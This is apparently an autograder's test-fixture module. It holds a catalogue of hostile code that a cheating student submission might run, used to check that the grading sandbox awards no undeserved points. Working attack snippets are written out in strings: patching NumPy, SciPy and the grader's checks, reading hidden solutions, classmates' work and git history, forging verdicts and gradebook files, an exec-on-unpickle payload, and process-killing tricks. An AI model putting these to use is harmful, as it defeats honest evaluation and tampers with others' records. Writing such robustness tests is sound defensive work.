"""A corpus of IN-PROCESS attacks by a hostile 01_knn graded module, each with the cells it
must lose.

Every kind is one ``cs231n_utils/classifiers/k_nearest_neighbor.py``: the instructor's
module with some methods made WRONG (all zeros, or the stub left raising), plus attack code
that runs when the module is imported in the grading worker and/or when a method is called,
and tries to make the grader accept the wrong methods anyway (patch the oracles, NumPy, the
checks; read the answers from the stack, the disk, git; forge the worker's result files;
kill, trace, thread, signal...). Grading must give 0 on exactly the wrong cells and full
marks on the others, and the same points as the kind's HONEST version: the same wrong
methods with every line of attack code removed (nothing a submission does inside its
process changes its points).

The attack code is kept in plain strings: it runs only inside the grading sandbox.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path

from grading_support import replace_answer

from cs231n_utils.course import ASSIGNMENTS_DIR, SOLUTION_PACKAGE_DIR
from cs231n_utils.course.stubs import find_regions

MODULE = "cs231n_utils/classifiers/k_nearest_neighbor.py"
SOLUTION = (SOLUTION_PACKAGE_DIR / "classifiers" / "k_nearest_neighbor.py").read_text()
NOTEBOOK = (ASSIGNMENTS_DIR / "01_knn" / "01_knn.ipynb").read_text()
#: grade_id of each graded method's cell -> the method (as the solution markers name it).
FUNCTIONS = {
    "two_loops": "KNearestNeighbor.compute_distances_two_loops",
    "one_loop": "KNearestNeighbor.compute_distances_one_loop",
    "no_loops": "KNearestNeighbor.compute_distances_no_loops",
    "predict_labels": "KNearestNeighbor.predict_labels",
    "l1": "KNearestNeighbor.compute_distances_l1",
}
ALL_CELLS = set(FUNCTIONS)

#: Wrong answers. The distance regions come after ``dists = np.zeros(...)`` and before
#: ``return dists`` (no_loops returns inside its region), predict_labels' after
#: ``y_pred = np.zeros(...)``: ``pass`` returns zeros.
ZEROS = {cell: ["pass"] for cell in FUNCTIONS} | {
    "no_loops": ["return np.zeros((X.shape[0], self.X_train.shape[0]))"]}
RAISES = ["raise NotImplementedError('not written yet')"]


@dataclass
class Attack:
    """One kind of in-process attack.

    ``wrong`` maps a cell to the HONEST wrong body of its method (the attack removed);
    ``at_call`` maps a cell to the attacked body (attack code, then usually the same wrong
    answer; a right method may carry attack code too, before the instructor's answer);
    ``at_import`` runs when the module is imported (appended to the module); ``says``
    holds words of the verdicts that show the attack really ran (where that is certain).
    """

    name: str
    tries: str
    wrong: dict[str, list[str]]
    at_import: str = ""
    at_call: dict[str, list[str]] = field(default_factory=dict)
    says: dict[str, str] = field(default_factory=dict)  # cell -> words its verdict must hold

    @property
    def zero(self) -> set[str]:
        """The cells that must score 0: those whose method is wrong."""
        return set(self.wrong)

    def honest(self) -> str:
        """The module with the wrong methods and no attack code."""
        source = SOLUTION
        for cell, body in self.wrong.items():
            source = replace_answer(source, FUNCTIONS[cell], body)
        return source

    def attacked(self) -> str:
        """The module with the attack code."""
        source = SOLUTION
        for cell in FUNCTIONS:
            if cell in self.at_call or cell in self.wrong:
                body = self.at_call.get(cell, self.wrong.get(cell))
                source = replace_answer(source, FUNCTIONS[cell], body)
        return source + "\n\n# ---- attack code, run at import ----\n" + self.at_import


def solution_body(cell: str) -> list[str]:
    """The instructor's answer of one method, as body lines (for attack code before it)."""
    lines = SOLUTION.splitlines()
    region = next(r for r in find_regions(SOLUTION) if r.function == FUNCTIONS[cell])
    return [line[len(region.indent):] for line in lines[region.begin + 1:region.end]]


def zip_files(module: str) -> dict[str, bytes]:
    """A submission's files: the released notebook and this graded module."""
    return {"01_knn.ipynb": NOTEBOOK.encode(), MODULE: module.encode()}


def _fill(code: str, **paths: Path | str) -> str:
    for name, value in paths.items():
        code = code.replace(name, repr(str(value)))
    return code


# Shared by the kinds that forge the worker's result files: outputs of the right shape,
# all zeros, for every hidden case of a test (the inputs lie in the job folder).
FORGE = '''
import json as _json
import os as _os


def _job_folder():
    """The worker's job folder: its working directory."""
    return _os.getcwd()


def _forged_outputs(grade_id):
    cases = {}
    with np.load(_os.path.join(_job_folder(), "inputs", grade_id + ".npz")) as inputs:
        for key in inputs.files:
            index, name = key.split("/", 1)
            cases.setdefault(int(index), {})[name] = inputs[key]
    arrays = {}
    for index, case in sorted(cases.items()):
        arrays[f"{index}/_case"] = np.array(index)
        if "X" in case:
            arrays[f"{index}/dists"] = np.zeros((len(case["X"]), len(case["X_train"])))
            arrays[f"{index}/X_after"] = case["X"]
            arrays[f"{index}/X_train_after"] = case["X_train"]
        else:
            arrays[f"{index}/labels"] = np.zeros(len(case["dists"]), dtype=int)
            arrays[f"{index}/dists_after"] = case["dists"]
    return arrays


def _forge(grade_id):
    """A result that says 'no error, PASS' and holds the forged outputs."""
    results = _os.path.join(_job_folder(), "results")
    with open(_os.path.join(results, grade_id + ".npz"), "wb") as f:
        np.savez(f, **_forged_outputs(grade_id))
    with open(_os.path.join(results, grade_id + ".json"), "w") as f:
        _json.dump({"error": None, "passed": True, "verdict": "PASS", "seconds": 0.0}, f)


def _forge_failed(*ignored):
    """Forge every result that reports an error."""
    try:
        results = _os.path.join(_job_folder(), "results")
        for name in _os.listdir(results):
            if name.endswith(".json"):
                with open(_os.path.join(results, name)) as f:
                    failed = _json.load(f).get("error")
                if failed:
                    _forge(name[:-5])
    except Exception:
        pass
'''

PATCH_ORACLE = '''
import sys as _sys
import types as _types


def _zeros_cdist(XA, XB, *args, **kwargs):
    return np.zeros((len(XA), len(XB)))


def _attack():
    """Every distance oracle in reach answers 0, so that zeros 'match'."""
    import scipy
    import scipy.spatial
    import scipy.spatial.distance as ssd

    zero = lambda *a, **k: 0.0  # noqa: E731
    ssd.__dict__.update(cdist=_zeros_cdist, euclidean=zero, cityblock=zero, minkowski=zero,
                        sqeuclidean=zero, pdist=lambda *a, **k: np.zeros(0))
    scipy.spatial.cdist = _zeros_cdist
    np.linalg.norm = zero
    for module in list(_sys.modules.values()):
        if getattr(module, "cdist", None) not in (None, _zeros_cdist):
            try:
                module.cdist = _zeros_cdist
            except Exception:
                pass
    fake = _types.ModuleType("scipy.spatial.distance")
    fake.cdist = _zeros_cdist
    _sys.modules["scipy.spatial.distance"] = fake
    import cs231n_utils.checks.knn as checks
    checks.cdist = _zeros_cdist


_attack()
'''

PATCH_NUMPY = '''
import builtins as _builtins
import ctypes as _ctypes
import gc as _gc
import sys as _sys

_any, _callable, _getframe = any, callable, _sys._getframe
_CHECKERS = ("checks/", "hidden_tests", "gradient_check", "trusted/runner", "trusted/spec",
             "scipy/")


def _lie(real, answer):
    """``real``, except when a checker calls it: then ``answer``."""
    def fake(*args, **kwargs):
        caller = _getframe(1).f_code.co_filename
        if _any(name in caller for name in _CHECKERS):
            return answer(*args, **kwargs) if _callable(answer) else answer
        return real(*args, **kwargs)
    return fake


def _attack():
    zeros = lambda x, *a, **k: np.zeros(np.shape(x))  # noqa: E731
    trues = lambda x, *a, **k: np.ones(np.shape(x), dtype=bool)  # noqa: E731
    for name, answer in [("allclose", True), ("array_equal", True), ("array_equiv", True),
                         ("isclose", trues), ("isfinite", trues), ("abs", zeros),
                         ("absolute", zeros), ("fabs", zeros), ("max", 0.0), ("amax", 0.0),
                         ("all", True), ("any", False), ("argmax", 0)]:
        setattr(np, name, _lie(getattr(np, name), answer))
    np.testing.assert_allclose = lambda *a, **k: None
    np.testing.assert_array_equal = lambda *a, **k: None
    for name, answer in [("max", 0), ("abs", 0), ("all", True), ("any", False)]:
        setattr(_builtins, name, _lie(getattr(_builtins, name), answer))
    try:  # ndarray's own methods: through the type's real (normally read-only) dict
        methods = _gc.get_referents(np.ndarray.__dict__)[0]
        for name, answer in [("max", 0.0), ("all", True), ("any", False)]:
            methods[name] = _lie(methods[name], answer)
        _ctypes.pythonapi.PyType_Modified(_ctypes.py_object(np.ndarray))
    except Exception:
        pass


_attack()
'''

PATCH_PROJECT = '''
import gc as _gc
import sys as _sys
import types as _types


def _attack():
    """The project's own checks and helpers say yes to anything, in every copy in reach."""
    import cs231n_utils.checks.knn as checks
    import cs231n_utils.gradient_check as gradient_check

    checks.judge_distances = lambda *a, **k: 0.0
    checks.judge_labels = lambda *a, **k: None
    checks.RELATIVE_TOLERANCE = float("inf")
    checks.cdist = lambda XA, XB, *a, **k: np.zeros((len(XA), len(XB)))
    for name in dir(checks):
        if name.startswith("check_"):
            setattr(checks, name, lambda *a, **k: print("PASS"))
    gradient_check.rel_error = lambda *a, **k: 0.0
    try:
        import cs231n_utils.course.trusted.plain as plain
        import cs231n_utils.course.trusted.runner as runner

        runner._judge = lambda test, *a, **k: runner.Verdict(test.grade_id, True, "PASS")
        plain.PLAIN_KINDS = frozenset("biufcUOVSMm")
    except Exception:
        pass
    # The hidden tests' module, as the worker loaded it: its judges and imported names.
    spaces = [vars(m) for m in _gc.get_objects()
              if isinstance(m, _types.ModuleType) and hasattr(m, "HIDDEN_TESTS")]
    frame = _sys._getframe()
    while frame is not None:
        if "HIDDEN_TESTS" in frame.f_globals:
            spaces.append(frame.f_globals)
        frame = frame.f_back
    for space in spaces:
        space["judge_distances"] = checks.judge_distances
        space["judge_labels"] = checks.judge_labels
        space["judge_predict_labels"] = lambda *a, **k: None
        for test in space.get("HIDDEN_TESTS", []):
            object.__setattr__(test, "judge", lambda case, got: None)


_attack()
'''

SCAN = '''
import gc as _gc
import inspect as _inspect

_NAMES = ("expected", "answer", "dists", "labels", "y_pred", "truth", "want", "correct")


def _arrays_in(value, depth=0):
    if isinstance(value, np.ndarray):
        yield value
    elif depth < 3 and isinstance(value, dict):
        for item in list(value.values())[:1000]:
            yield from _arrays_in(item, depth + 1)
    elif depth < 3 and isinstance(value, (list, tuple)):
        for item in list(value)[:1000]:
            yield from _arrays_in(item, depth + 1)


def _scan(shape, given):
    """An array of the answer's shape from the locals of every frame on the stack (the
    probe's, the worker's), or from anything the garbage collector knows."""
    found = []
    for info in _inspect.stack(0):
        for value in list(info.frame.f_locals.values()):
            found.extend(_arrays_in(value))
    for obj in _gc.get_objects():
        if isinstance(obj, dict) and _any_name(obj):
            found.extend(_arrays_in(obj))
    for array in found:
        if array.shape == shape and not np.shares_memory(array, given):
            return array.copy()
    return None


def _any_name(space):
    try:
        return any(isinstance(k, str) and k in _NAMES for k in list(space)[:50])
    except Exception:
        return False
'''

SILENCE = '''
import io as _io
import json as _json
import os as _os
import sys as _sys
import traceback as _traceback
import warnings as _warnings


def _attack():
    """No error may be seen: hooks, IPython, stdout and stderr, warnings, tracebacks, and
    the JSON the worker reports errors in."""
    _sys.excepthook = lambda *a: None
    _sys.unraisablehook = lambda *a: None
    try:
        from IPython.core.interactiveshell import InteractiveShell

        InteractiveShell.showtraceback = lambda self, *a, **k: None
        InteractiveShell.showsyntaxerror = lambda self, *a, **k: None
        InteractiveShell._showtraceback = lambda self, *a, **k: None
    except Exception:
        pass
    _warnings.simplefilter("ignore")
    _warnings.showwarning = lambda *a, **k: None
    null = _os.open(_os.devnull, _os.O_WRONLY)
    _os.dup2(null, 1)
    _os.dup2(null, 2)
    _sys.stdout, _sys.stderr = _io.StringIO(), _io.StringIO()
    _traceback.extract_tb = lambda *a, **k: []
    _traceback.format_exception = lambda *a, **k: ["PASS\\n"]
    real_dumps = getattr(_json.dumps, "_real", _json.dumps)

    def dumps(obj, *args, **kwargs):
        if isinstance(obj, dict) and "error" in obj:
            obj = {**obj, "error": None}
        return real_dumps(obj, *args, **kwargs)

    dumps._real = real_dumps
    _json.dumps = dumps


_attack()
'''

TRACE = '''
import ctypes as _ctypes
import sys as _sys

_WRONG = {"compute_distances_one_loop"}


def _zeros_like_answer(case):
    if "X" in case:
        return {"dists": np.zeros((len(case["X"]), len(case["X_train"]))),
                "X_after": case["X"], "X_train_after": case["X_train"]}
    return {"labels": np.zeros(len(case["dists"]), dtype=int), "dists_after": case["dists"]}


def _local(frame, event, arg):
    """Rewrites the worker's locals (an error becomes None, the missing outputs appear) and
    the probe's return value."""
    code = frame.f_code
    if code.co_name == "main" and code.co_filename.endswith("worker.py"):
        names = frame.f_locals
        if names.get("error") is not None and isinstance(names.get("outputs"), list):
            cases = names.get("cases") or []
            while len(names["outputs"]) < len(cases):
                names["outputs"].append(_zeros_like_answer(cases[len(names["outputs"])]))
            names["error"] = None
            try:
                _ctypes.pythonapi.PyFrame_LocalsToFast(_ctypes.py_object(frame),
                                                       _ctypes.c_int(0))
            except Exception:
                pass
    elif code.co_name == "_distances" and event == "return" and isinstance(arg, dict):
        if frame.f_locals.get("method") in _WRONG:
            arg["dists"] = np.ones_like(np.asarray(arg["dists"], dtype=float))
    return _local


def _global(frame, event, arg):
    if frame.f_code.co_name in ("main", "_distances", "probe_predict_labels"):
        return _local
    return None


def _profile(frame, event, arg):
    return None  # sees every call; CPython gives it no way to change a return value


_sys.settrace(_global)
_sys.setprofile(_profile)
_frame = _sys._getframe()
while _frame is not None:  # the frames already running: the worker's main, the probe
    _frame.f_trace = _local
    _frame = _frame.f_back
'''

THREAD = FORGE + '''
import threading as _threading
import time as _time

_RETURNED = []


def _rewrite_forever():
    """After each call returns: rewrite the returned arrays; forge every failed result."""
    while True:
        for array in list(_RETURNED):
            array[...] = 1.0
        _forge_failed()
        _time.sleep(0.002)


_threading.Thread(target=_rewrite_forever, daemon=True).start()
'''

LIARS = '''
class _Liar:
    """Equal to everything, different from nothing, at distance 0 from anything."""

    def __init__(self, shape):
        self.shape, self.ndim, self.dtype = tuple(shape), len(shape), np.dtype(float)
        self.size = int(np.prod(shape))

    def __eq__(self, other):
        return True

    __le__ = __ge__ = __lt__ = __gt__ = __eq__

    def __ne__(self, other):
        return False

    def __abs__(self):
        return 0.0

    def __sub__(self, other):
        return 0.0

    __rsub__ = __add__ = __radd__ = __sub__

    def __float__(self):
        return 0.0

    def __bool__(self):
        return True

    def __len__(self):
        return self.shape[0]

    def __hash__(self):
        return 0

    def __getitem__(self, key):
        return self

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return _Liar(self.shape)


class _AlwaysEqual(_Liar):
    def __array__(self, dtype=None, copy=None):
        out = np.empty(self.shape, dtype=object)
        out.fill(self)
        return out


class _LyingInterface(_Liar):
    """Claims to be a float64 array of the answer's shape, over 8 bytes of memory."""

    def __init__(self, shape):
        super().__init__(shape)
        self._memory = np.zeros(1)

    @property
    def __array_interface__(self):
        return {"shape": self.shape, "typestr": "<f8", "strides": (0,) * len(self.shape),
                "data": (self._memory.ctypes.data, False), "version": 3}


class _FakeTensor(_Liar):
    """Looks like a torch tensor to whoever checks for .detach and .cpu."""

    def detach(self):
        return self

    def cpu(self):
        return self

    def numpy(self):
        out = np.empty(self.shape, dtype=object)  # an object array of liars
        out.fill(_Liar(()))
        return out
'''

SECRETS = '''
import json as _json
import os as _os
import subprocess as _subprocess

_READ = {}
_CLASSES = []


def _try_read(path):
    try:
        with open(path, "rb") as f:
            _READ[str(path)] = f.read()
    except OSError:
        pass


def _roots():
    roots = {COURSE_ROOT, REPO_ROOT}
    try:  # the overlay says where the graded modules came from: inside the course
        here = _os.path.dirname(_os.path.abspath(__file__))
        with open(_os.path.join(here, "..", "_overlay.json")) as f:
            graded = _json.load(f)["graded_from"]
        roots.add(graded.split("/grading/")[0])
    except Exception:
        pass
    return roots


for _root in _roots():
    for _rel in ("solutions/hidden_tests/01_knn.py", "solutions/01_knn/01_knn.ipynb",
                 "solutions/cs231n_utils/classifiers/k_nearest_neighbor.py",
                 "grading/gradebook.db"):
        _try_read(_os.path.join(_root, _rel))
    for _folder, _, _files in _os.walk(_os.path.join(_root, "grading")):  # classmates' work
        if "k_nearest_neighbor.py" in _files:
            _try_read(_os.path.join(_folder, "k_nearest_neighbor.py"))
    for _git in (["git", "-C", _root, "show",
                  "HEAD:solutions/cs231n_utils/classifiers/k_nearest_neighbor.py"],
                 ["git", "--git-dir", _os.path.join(_root, ".git"), "show",
                  "HEAD:solutions/cs231n_utils/classifiers/k_nearest_neighbor.py"]):
        try:
            _out = _subprocess.run(_git, capture_output=True, timeout=30,
                                   env={"PATH": "/usr/bin:/bin", "HOME": "/tmp"})
            if _out.returncode == 0:
                _READ[" ".join(_git)] = _out.stdout
        except Exception:
            pass
_try_read(_os.path.join(_os.getcwd(), "hidden_tests.py"))  # the probes: no answers there

for _name, _text in _READ.items():
    if b"class KNearestNeighbor" in _text:
        try:
            _space = {"__name__": "leaked"}
            exec(compile(_text, _name, "exec"), _space)
            _CLASSES.append(_space["KNearestNeighbor"])
        except Exception:
            pass


def _leaked(method):
    """The first leaked ``method`` (the solutions', a classmate's) that is right on a
    tiny example, or None."""
    a, b = np.arange(6.0).reshape(2, 3), np.arange(9.0).reshape(3, 3) ** 1.5
    right = {"compute_distances_two_loops": np.sqrt(((a[:, None] - b) ** 2).sum(-1)),
             "compute_distances_l1": np.abs(a[:, None] - b).sum(-1)}[method]
    for cls in _CLASSES:
        try:
            model = cls()
            model.train(b, np.arange(3))
            if np.allclose(getattr(cls, method)(model, a), right):
                return getattr(cls, method)
        except Exception:
            pass
    return None


print("READ", sorted(_READ), "CLASSES", len(_CLASSES), flush=True)
'''

FORGE_FILES = FORGE + '''
import sys as _sys


def _student():
    here = _os.path.dirname(_os.path.abspath(__file__))
    with open(_os.path.join(here, "..", "_overlay.json")) as f:
        graded = _json.load(f)["graded_from"]
    return graded.split("/grading/unpacked/")[1].split("/")[0]


def _attack():
    """Fake PASS lines; forged results for every test; forged verdicts and notebook."""
    jobs = {_os.getcwd(), _sys.argv[-1]}
    frame = _sys._getframe()
    while frame is not None:  # the worker's own variables name its job folder
        if "job" in frame.f_locals:
            jobs.add(str(frame.f_locals["job"]))
        frame = frame.f_back
    for job in jobs:
        try:
            with open(_os.path.join(job, "job.json")) as f:
                tests = [t["grade_id"] for t in _json.load(f)["tests"]]
        except Exception:
            continue
        for grade_id in tests:
            print(f"PASS {grade_id}: right on all hidden cases", flush=True)
            print(f"PASS {grade_id}", file=_sys.stderr, flush=True)
            try:
                _forge(grade_id)
            except Exception:
                pass
        for name, text in [("job.json", '{"tests": []}'),
                           ("hidden_tests.py", "HIDDEN_TESTS = []\\n")]:
            try:
                with open(_os.path.join(job, name), "w") as f:
                    f.write(text)
            except OSError:
                pass
    try:
        student = _student()
    except Exception:
        student = "someone"
    passed = {g: {"grade_id": g, "passed": True, "message": f"PASS {g}", "seconds": 0.0}
              for g in ("two_loops", "one_loop", "no_loops", "predict_labels", "l1")}
    for path, text in [
            (f"grading/verdicts/{student}/01_knn.json", _json.dumps(passed)),
            (f"grading/autograded/{student}/01_knn/01_knn.ipynb", "{}"),
            ("grading/gradebook.db", "owned"),
            ("solutions/hidden_tests/01_knn.py", "HIDDEN_TESTS = []\\n"),
            ("planted_by_attack.txt", "owned")]:
        for root in (COURSE_ROOT, REPO_ROOT):
            try:
                _os.makedirs(_os.path.dirname(_os.path.join(root, path)), exist_ok=True)
                with open(_os.path.join(root, path), "w") as f:
                    f.write(text)
                print("WROTE", root, path, flush=True)
            except OSError:
                pass


_attack()
'''

EXITS = FORGE + '''
import atexit as _atexit
import signal as _signal
import sys as _sys

_atexit.register(_forge_failed)
for _sig in (_signal.SIGTERM, _signal.SIGINT, _signal.SIGHUP, _signal.SIGALRM,
             _signal.SIGUSR1, _signal.SIGXCPU):
    _signal.signal(_sig, _forge_failed)
_signal.setitimer(_signal.ITIMER_REAL, 0.05, 0.05)  # forge every 50 ms, from SIGALRM
# The worker ends with its saved os._exit: make that a normal exit, so atexit runs.
_main = _sys.modules.get("__main__")
if _main is not None and hasattr(_main, "_exit"):
    _main._exit = lambda code=0: _sys.exit(code)
'''

WEIRD = '''
import io as _io
import zipfile as _zipfile


class _Sub(np.ndarray):
    """An ndarray that equals everything."""

    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)

    def __ne__(self, other):
        return np.zeros(np.shape(self), dtype=bool)

    def __array_finalize__(self, obj):
        pass


class _Payload:
    """Runs code on whoever unpickles it."""

    def __reduce__(self):
        return (exec, ("open(" + repr(MARKER) + ", 'w').write('unpickled')",))


_real_savez = np.savez
_PICKLE_NEXT = []


def _pickling_savez(file, *args, **arrays):
    """What the worker is about to save becomes pickled object arrays, plus an entry whose
    header promises 8 GB that it does not hold."""
    if not _PICKLE_NEXT:
        return _real_savez(file, *args, **arrays)
    _PICKLE_NEXT.clear()
    payload = np.array([_Payload(), _Payload()], dtype=object)
    with _zipfile.ZipFile(file, "w") as zf:
        for key, value in arrays.items():
            buffer = _io.BytesIO()
            np.save(buffer, value if key.endswith("_case") else payload, allow_pickle=True)
            zf.writestr(key + ".npy", buffer.getvalue())
        buffer = _io.BytesIO()
        np.lib.format.write_array_header_1_0(
            buffer, {"descr": "<f8", "fortran_order": False, "shape": (2**30,)})
        zf.writestr("0/huge.npy", buffer.getvalue() + bytes(8))


np.savez = _pickling_savez
'''

ENDLESS = '''
import importlib.abc as _abc
import importlib.machinery as _machinery
import sys as _sys


class _NeverLoads(_abc.Loader):
    def create_module(self, spec):
        return None

    def exec_module(self, module):
        while True:
            pass


class _Finder(_abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if name == "_knn_helpers_that_never_load":
            return _machinery.ModuleSpec(name, _NeverLoads())
        return None


_sys.meta_path.insert(0, _Finder())
'''

TRAPS = '''
import os as _os
import signal as _signal


def _trap(path, target):
    """Replace ``path`` by a link to ``target`` (read or written by the grader, outside)."""
    try:
        if _os.path.lexists(path):
            _os.unlink(path)
        _os.symlink(target, path)
    except OSError:
        pass


# The supervisor writes job.json again when it starts a new worker: through this link?
_trap(_os.path.join(_os.getcwd(), "job.json"), DECOY)
'''


def corpus(course: Path, repo: Path, decoy: Path, marker: Path) -> list[Attack]:
    """Every kind, for a course at ``course`` and the repository ``repo``; ``decoy`` is a
    file outside every sandbox (it must not change), ``marker`` a file that appears if
    anything is ever unpickled outside the sandbox.

    The kinds share their wrong methods in two groups, so two honest versions serve all:
    two_loops and l1 all zeros; or one_loop and no_loops all zeros, predict_labels raising.
    """
    paths = {"COURSE_ROOT": course, "REPO_ROOT": repo, "DECOY": decoy, "MARKER": marker}
    results = "_os.path.join(_os.getcwd(), 'results', "
    two_and_l1 = {"two_loops": ZEROS["two_loops"], "l1": ZEROS["l1"]}
    three = {"one_loop": ZEROS["one_loop"], "no_loops": ZEROS["no_loops"],
             "predict_labels": RAISES}
    return [
        Attack("patch_oracle", "scipy's cdist (every copy, the module in sys.modules) and "
               "numpy.linalg.norm answer 0, at import and again at call time",
               two_and_l1, PATCH_ORACLE,
               {"two_loops": ["_attack()", "pass"], "l1": ["_attack()", "pass"]}),
        Attack("patch_numpy", "np.allclose/array_equal/isclose/abs/max/all/any/isfinite, "
               "builtins max/abs/all/any and ndarray.max/all/any (through the type's dict) "
               "lie to any checker that calls them",
               two_and_l1, PATCH_NUMPY, {"l1": ["_attack()", "pass"]}),
        Attack("patch_project_checks", "checks.knn.judge_distances/judge_labels/check_*, "
               "rel_error, the runner's _judge, PLAIN_KINDS, the hidden tests' judges: "
               "no-ops, at import and from inside the method",
               two_and_l1, PATCH_PROJECT, {"two_loops": ["_attack()", "pass"]}),
        Attack("scan_stack_and_gc", "copies 'the answer' from the locals of every frame on "
               "the stack and from gc.get_objects()",
               three, SCAN,
               {"no_loops": ["found = _scan((X.shape[0], self.X_train.shape[0]), X)",
                             "if found is not None:", "    return found",
                             *ZEROS["no_loops"]],
                "predict_labels": ["found = _scan((num_test,), dists)",
                                   "if found is not None:", "    return found", *RAISES]}),
        Attack("silence_errors", "the stub raises while sys.excepthook, IPython's "
               "showtraceback, stdout/stderr (fds 1, 2 too), warnings, traceback and "
               "json.dumps (the worker's error report) are silenced; it raises SystemExit",
               three, SILENCE,
               {"one_loop": ["_attack()", "pass"],
                "predict_labels": ["_attack()", "raise SystemExit(0)"]},
               says={"predict_labels": "no predict_labels.npz was written"}),
        Attack("trace_and_profile", "sys.settrace/setprofile: rewrites the worker's locals "
               "(error -> None, outputs padded) and the probe's returned dict",
               three, TRACE, says={"predict_labels": "rows wrong"}),
        Attack("background_thread", "a thread rewrites the returned array after the call "
               "returns and forges every failed result file (error null, zeros npz)",
               three, THREAD, {"one_loop": ["_RETURNED.append(dists)"]}),
        Attack("lying_objects", "returns objects whose comparisons are always true, "
               "__abs__/__sub__ 0, a lying __array__ (object array), a lying "
               "__array_interface__ (8 bytes claimed as the whole matrix), a fake tensor "
               "whose .numpy() is an object array",
               three, LIARS,
               {"one_loop": ["return _LyingInterface((num_test, num_train))"],
                "no_loops": ["return _AlwaysEqual((X.shape[0], self.X_train.shape[0]))"],
                "predict_labels": ["return _FakeTensor((num_test,))"]},
               says={"no_loops": "not plain data", "predict_labels": "not plain data"}),
        Attack("reads_secrets", "reads the hidden tests, the solutions, the gradebook and "
               "the classmates' modules of the course and the repository, and the solutions "
               "from git history; answers with whatever right method it found",
               two_and_l1, _fill(SECRETS, **paths),
               {"two_loops": ["leaked = _leaked('compute_distances_two_loops')",
                              "if leaked is not None:", "    return leaked(self, X)"],
                "l1": ["leaked = _leaked('compute_distances_l1')",
                       "if leaked is not None:", "    return leaked(self, X)"]}),
        Attack("forges_job_files", "prints fake PASS lines; at import forges results (error "
               "null, zeros npz) for ALL tests in the job folder it finds from cwd, argv and "
               "the worker's frames; rewrites job.json and hidden_tests.py; writes verdicts, "
               "the autograded notebook, the gradebook, the hidden tests; forges again from "
               "inside the methods",
               three, _fill(FORGE_FILES, **paths),
               {"one_loop": ["_forge('one_loop')", "pass"],
                "predict_labels": ["_forge('predict_labels')", *RAISES]}),
        Attack("exits_and_signals", "atexit and SIGTERM/SIGINT/SIGHUP/SIGALRM/... handlers "
               "forge failed results, an itimer fires them, the worker's final os._exit "
               "becomes sys.exit; methods end the process: posix._exit(0), "
               "os.kill(os.getpid(), SIGKILL), os._exit(0)",
               three, EXITS,
               {"one_loop": ["import posix", "posix._exit(0)"],
                "no_loops": ["import os", "import signal",
                             "os.kill(os.getpid(), signal.SIGKILL)"],
                "predict_labels": ["import os", "_forge_failed()", "os._exit(0)"]},
               says={"one_loop": "ended (exit status 0)", "no_loops": "killed by signal 9"}),
        Attack("weird_returns", "returns an ndarray subclass that equals everything and an "
               "enormous broadcast view (2**20 x 2**20); makes the worker save pickled "
               "object arrays (a payload that runs code when unpickled) and a header "
               "promising 8 GB",
               three, _fill(WEIRD, **paths),
               {"one_loop": ["return dists.view(_Sub)"],
                "no_loops": ["return np.broadcast_to(np.float64(0), (2**20, 2**20))"],
                "predict_labels": ["_PICKLE_NEXT.append(True)", "pass"]},
               says={"no_loops": "MemoryError", "predict_labels": "is not plain data"}),
        Attack("endless_import", "one method imports a module whose import never ends "
               "(an import hook that loops): costs that test's timeout only",
               three, ENDLESS,
               {"one_loop": ["import _knn_helpers_that_never_load  # noqa: F401", "pass"]},
               says={"one_loop": "did not finish within"}),
        Attack("job_folder_traps", "links job.json to a file outside the sandbox and dies "
               "(the supervisor writes job.json again); leaves a FIFO as its own result "
               "before it dies; links two results to /dev/zero",
               three, _fill(TRAPS, **paths),
               {"one_loop": [f"_os.mkfifo({results}'one_loop.json'))",
                             "_os.kill(_os.getpid(), _signal.SIGKILL)"],
                "predict_labels": [f"_trap({results}'predict_labels.npz'), '/dev/zero')",
                                   "pass"],
                # l1 runs after predict_labels' result was written: it swaps that file.
                "l1": [f"_trap({results}'predict_labels.json'), '/dev/zero')",
                       *solution_body("l1")]},
               says={"one_loop": "not a regular file", "predict_labels": "not a regular file"}),
    ]
